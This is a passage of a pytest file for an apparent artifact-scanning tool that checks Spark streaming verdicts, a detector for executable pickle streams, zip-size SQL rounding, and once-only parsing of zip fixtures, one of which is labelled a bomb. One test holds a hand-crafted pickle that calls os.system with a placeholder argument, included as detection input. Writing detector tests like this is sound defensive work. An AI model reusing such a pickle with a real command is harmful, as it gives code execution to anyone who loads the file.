    share = lambda n: spark.createDataFrame([("t", {"HIGH|high": n}, 1, True, None, False, ["m.bin"], [], True, [], True, [])], PARTIAL).coalesce(1)
    for k in (0, 1):
        share(k + 1).write.parquet(str(tmp_path / "partials" / f"batch={k}"))
    q = g.judge(spark, processingTime="0 seconds")
    try:
        end = time.time() + 120
        while time.time() < end:
            time.sleep(1)
            if q.lastProgress and (tmp_path / "verdicts").exists() and g.verdicts(spark).where("settled").count():
                break
        r = g.verdicts(spark).first()
    finally:
        q.stop()
    assert r.settled and r.parts == 2 and r.n_high == 3 and r.n_medium == 1 and r.verdict == "REVIEW"


def test_prose_that_spells_opcodes_is_no_pickle():
    import pickle

    from cargolens.operators.identify import parses_to_stop

    prose = [b"Ndedou. Threes, with the lytiha", b"Ntthnd. Thbleanat", b"Ndthea. Thhare thndanre", b"h\x00N."]
    assert not any(map(parses_to_stop, prose))
    looped = [1]
    looped.append(looped)
    streams = [pickle.dumps(x, p) for p in (0, 1) for x in (None, looped, {"a": (1, [2.5, b"x"], {})}, ValueError("x"), frozenset("ab"))]
    # what fails behind a call has acted
    assert all(map(parses_to_stop, [*streams, b"cos\nsystem\n(S'x'\ntRdd.", b"(I1\n1N.", b"Nq\x000h\x00."]))


def test_zip_sizes_round_half_to_even_as_the_sql_does(spark, tmp_path):
    import duckdb

    from cargolens.plans import catalog

    rows = [(1, 1, 1, 1, q, 800 * q + 0.5) for q in (11.0, 12.0, 13.0)] + [(2, 5, 5, 1, 12.5, 9600.5), (3, 5, 5, 1, 13.5, 10400.5)]
    spark.createDataFrame(rows, "l_orderkey long, l_partkey long, l_suppkey long, l_linenumber int, l_quantity double, l_extendedprice double").coalesce(1).write.parquet(f"{tmp_path}/lineitem.parquet")
    with duckdb.connect() as c:
        c.execute(f"CREATE VIEW lineitem AS SELECT * FROM '{tmp_path}/lineitem.parquet/*.parquet'")
        expected = c.execute(catalog.oracle_sql()["zip_members"]).fetchall()
    got = {r.rule_id: r.n for r in catalog.queries()["zip_members"](spark, str(tmp_path)).collect()}
    assert got == {rule: n for rule, _, n in expected if n}


def test_equal_files_are_parsed_once_and_found_everywhere(spark, tmp_path):
    from cargolens.operators import facts
    from cargolens.plans import cases, catalog

    parsed = []

    class Counted(facts.Parser):
        def rows(self, path, *rest):
            parsed.append(path)
            yield from super().rows(path, *rest)

    bomb, up = (cases.FAMILIES["zip_archives"].files[i][0] for i in (3, 1))
    same, parser = facts.Same(), Counted({"member"})
    files = [("a.zip", bomb), ("a.zip", up), ("a.zip", bomb), ("b.zip", bomb), ("a.zip", up)]
    got = [list(same.rows(parser, p, p, "zip", False, Blob(d))) for p, d in files]
    assert got == [list(facts.Parser({"member"}).rows(p, p, "zip", False, Blob(d))) for p, d in files] and parsed == ["a.zip", "a.zip", "b.zip"]
    # one row group of keys is dealt out before files are made of it
    spark.range(1, 20_001).selectExpr("id as p_partkey").coalesce(1).write.parquet(f"{tmp_path}/part.parquet")
    sizes = [r["count"] for r in catalog._spread(spark.read.parquet(f"{tmp_path}/part.parquet")).groupBy(F.spark_partition_id()).count().collect()]
    assert len(sizes) >= 4 and max(sizes) <= 6_000
